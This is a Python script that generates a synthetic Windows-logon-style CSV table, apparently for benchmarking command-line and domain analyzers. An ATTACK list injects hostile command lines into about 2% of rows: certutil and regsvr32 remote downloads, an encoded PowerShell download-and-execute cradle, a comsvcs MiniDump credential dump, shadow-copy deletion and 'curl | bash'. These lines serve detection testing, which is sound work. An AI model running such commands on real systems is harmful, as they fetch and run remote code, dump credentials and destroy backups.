#!/usr/bin/env python3
"""A deterministic Windows-logon-like CSV table for the text analyzers'
benchmark (cmdline, domain, mask): TimeGenerated, Computer, Account,
IpAddress, SubjectUserSid, TenantId, QueryName, CommandLine.  About 2 % of
command lines are attack-like (certutil, mshta, encoded PowerShell, ...),
about 5 % of names look machine-generated and
about 45 % are distinct per-host names (e123456.cdn.example).

    gen_table.py --size-mb 100 --out table.csv
"""
import argparse
import base64
import csv
import random

BENIGN = [
    r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule",
    r"C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1640,{n}',
    r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
    r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle',
    r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
    r"C:\Windows\System32\taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}",
    r'"C:\Windows\system32\cmd.exe" /c dir C:\Users\{user}\Documents > C:\temp\list{n}.txt',
    r"powershell.exe -NoProfile -File C:\scripts\inventory.ps1 -Server fs{n:02d}.corp.contoso.com",
    r"net use \\fs{n:02d}\share /persistent:no",
    r"/usr/bin/python3 /opt/app/worker.py --queue jobs --id {n}",
    r"sudo systemctl restart nginx",
]
ATTACK = [
    r"certutil.exe -urlcache -split -f http://{ip}/a{n}.exe C:\Users\Public\a.exe",
    r'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc"":close")',
    r"powershell.exe -nop -w hidden -enc {enc}",
    r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump {n} C:\temp\l.dmp full",
    r"vssadmin.exe delete shadows /all /quiet",
    r"regsvr32 /s /n /u /i:http://{ip}/f.sct scrobj.dll",
    r"curl -fsSL http://{ip}/i.sh | bash",
]
DOMAINS = ["www.google.com", "outlook.office365.com", "login.microsoftonline.com",
           "www.bbc.co.uk", "github.com", "cdn.jsdelivr.net", "api.contoso.com",
           "fs01.corp.contoso.com", "update.googleapis.com", "s3.amazonaws.com",
           "bücher.de", "x.duckdns.org"]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--size-mb", type=float, default=100)
    ap.add_argument("--out", required=True)
    a = ap.parse_args()
    rnd = random.Random(20240611)
    payload = base64.b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"
        .encode("utf-16le")).decode()
    tenants = ["802d39e1-9d70-404d-832c-2de5e2478eda",
               "5e80300e-fd65-46c9-9b49-9663788a704d"]
    limit = int(a.size_mb * 1e6)
    with open(a.out, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["TimeGenerated", "Computer", "Account", "IpAddress",
                    "SubjectUserSid", "TenantId", "QueryName", "CommandLine"])
        n = 0
        while f.tell() < limit:
            n += 1
            host = f"WS{rnd.randrange(2000):04d}"
            user = f"user{rnd.randrange(5000)}"
            r = rnd.random()
            if r < 0.5:
                ip = f"10.{rnd.randrange(4)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}"
            elif r < 0.7:
                ip = f"172.{rnd.randrange(16, 32)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}"
            elif r < 0.8:
                ip = f"192.168.{rnd.randrange(256)}.{rnd.randrange(1, 255)}"
            else:
                ip = f"{rnd.randrange(11, 200)}.{rnd.randrange(256)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}"
            acct = "NT AUTHORITY\\SYSTEM" if rnd.random() < 0.3 else f"CONTOSO\\{user}"
            sid = "S-1-5-18" if acct.startswith("NT") else \
                f"S-1-5-21-2079883792-3656946353-945924832-{1000 + rnd.randrange(5000)}"
            r = rnd.random()
            if r < 0.05:
                q = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789")
                            for _ in range(rnd.randrange(10, 20))) + ".com"
            elif r < 0.5:
                # CDN- and tracker-style names: mostly distinct
                q = f"e{rnd.randrange(10**6):06d}.{rnd.choice(DOMAINS)}"
            else:
                q = rnd.choice(DOMAINS)
            if rnd.random() < 0.02:
                cmd = rnd.choice(ATTACK).format(ip=ip, n=n, enc=payload)
            else:
                cmd = rnd.choice(BENIGN).format(n=n % 100, user=user)
            w.writerow([f"2024-06-11T{n // 3600 % 24:02d}:{n // 60 % 60:02d}:{n % 60:02d}.{n % 1000:03d}Z",
                        f"{host}.corp.contoso.com", acct, ip, sid,
                        rnd.choice(tenants), q, cmd])


if __name__ == "__main__":
    main()
